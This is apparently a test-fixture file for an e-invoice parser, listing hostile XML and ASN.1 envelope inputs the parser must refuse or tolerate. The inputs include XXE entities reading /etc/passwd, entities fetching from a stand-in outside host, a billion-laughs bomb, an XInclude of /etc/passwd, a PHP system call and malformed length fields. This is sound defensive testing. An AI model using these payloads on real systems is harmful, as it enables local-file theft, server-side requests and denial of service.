// SPDX-License-Identifier: EUPL-1.2
import { invoiceXml } from './invoice-xml.ts'

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)
const many = 100_000
const megabytes = (count: number, text = 'x') => text.repeat((count * 1024 * 1024) / text.length)
const invoiceWith = (piece: string) => utf8(invoiceXml({ general: piece }))
const withDoctype = (doctype: string, number = '&x;') => utf8(`<!DOCTYPE r ${doctype}>${invoiceXml({ number })}`)
const laughs = Array.from({ length: 20 }, (_, n) => `<!ENTITY x${n + 1} "${`&x${n};`.repeat(10)}">`).join('')

/** A piece of an envelope (ITU-T X.690): its mark, its length, its content. */
const piece = (mark: number, content: Uint8Array, length = content.length): Buffer =>
  Buffer.concat([Buffer.from([mark, 0x84, ...[24, 16, 8, 0].map((shift) => (length >>> shift) & 255)]), content])
const oid = (end: number) => Buffer.from(`06092a864886f70d0107${end.toString(16).padStart(2, '0')}`, 'hex')

function envelope(content: Uint8Array, lying: { length?: number } = {}): Buffer {
  const octets = piece(0x04, content, lying.length)
  const inner = piece(0x30, Buffer.concat([oid(1), piece(0xa0, octets)]))
  const signed = Buffer.concat([
    Buffer.from('020101', 'hex'),
    piece(0x31, Buffer.alloc(0)),
    inner,
    piece(0x31, Buffer.alloc(0)),
  ])
  return piece(0x30, Buffer.concat([oid(2), piece(0xa0, piece(0x30, signed))]))
}

const envelopes = (layers: number): Uint8Array =>
  Array.from({ length: layers }).reduce<Uint8Array>((inside) => envelope(inside), utf8(invoiceXml()))

/** Files that would open others, fill the memory or never end; each must be refused. */
export const refusedInvoices: Record<string, () => Uint8Array> = {
  'an entity that opens a file': () => withDoctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]'),
  'an entity that asks a server': () => withDoctype('[<!ENTITY x SYSTEM "http://altrove.example/x">]'),
  'a parameter entity': () => withDoctype('[<!ENTITY % x SYSTEM "http://altrove.example/x"> %x;]'),
  'a DTD kept elsewhere': () => withDoctype('SYSTEM "http://altrove.example/fattura.dtd"', '1'),
  'a billion laughs': () => withDoctype(`[<!ENTITY x0 "ha">${laughs}<!ENTITY x "&x20;">]`),
  'one long entity, many times': () => withDoctype(`[<!ENTITY x "${megabytes(1)}">]`, '&x;'.repeat(many)),
  'an entity nobody declares': () => utf8(invoiceXml({ number: '&x;' })),
  'a hundred thousand elements one in another': () => utf8('<a>'.repeat(many)),
  'a hundred thousand elements inside an invoice': () => invoiceWith('<a>'.repeat(many)),
  'an element never closed': () => utf8(`${invoiceXml()}<${megabytes(4)}`),
  'a comment never closed': () => invoiceWith(`<!--${megabytes(4)}`),
  'a value of megabytes': () => utf8(invoiceXml({ number: megabytes(4) })),
  'an encoding nobody knows': () => utf8(`<?xml version="1.0" encoding="EBCDIC-IT"?>${invoiceXml()}`),
  'UTF-16 that says nothing': () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.alloc(1001, 0x41)]),
  'an attribute twice': () => invoiceWith('<a b="1" b="2"/>'),
  'a hundred thousand sequences one in another': () => Buffer.alloc(many * 2, Buffer.from([0x30, 0x80])),
  'sequences one in another inside an envelope': () => envelope(Buffer.alloc(many * 2, Buffer.from([0x30, 0x80]))),
  'an envelope ten times in another': () => envelopes(10),
  'an envelope that says it is shorter than it is': () => envelope(utf8(invoiceXml()), { length: 20 }),
  'an envelope that says it is four gigabytes': () => envelope(utf8(invoiceXml()), { length: 0xffff_fff0 }),
  'an envelope of three hundred thousand pieces': () => piece(0x30, Buffer.alloc(600_000, Buffer.from([0x05, 0x00]))),
  'an envelope written as text that is none': () => utf8(`MI${megabytes(4, 'A')}`),
}

/** Files strange but harmless: what they carry besides the invoice weighs nothing. */
export const harmlessInvoices: Record<string, () => Uint8Array> = {
  'an attribute of megabytes': () => invoiceWith(`<a b="${megabytes(4)}"/>`),
  'a hundred thousand attributes': () =>
    invoiceWith(`<a ${Array.from({ length: many }, (_, n) => `b${n}="1"`).join(' ')}/>`),
  'a text of megabytes': () => invoiceWith(`<Causale>${megabytes(4)}</Causale>`),
  'a hundred thousand remarks': () => invoiceWith('<Causale>x</Causale>'.repeat(many)),
  'a hundred thousand comments': () => invoiceWith('<!-- x -->'.repeat(many)),
  'instructions to other programs': () => invoiceWith('<?php system("ls") ?>'.repeat(many)),
  'a style sheet kept elsewhere': () =>
    utf8(`<?xml version="1.0"?><?xml-stylesheet href="http://altrove.example/x.xsl"?>${invoiceXml()}`),
  'another schema’s place': () => invoiceWith('<a xmlns:s="x" s:schemaLocation="http://altrove.example x"/>'),
  'a file that includes another': () =>
    invoiceWith('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
  'letters that are not in the encoding declared': () =>
    Buffer.concat([utf8('<?xml version="1.0" encoding="UTF-8"?>'), Buffer.from(invoiceXml(), 'latin1')]),
}
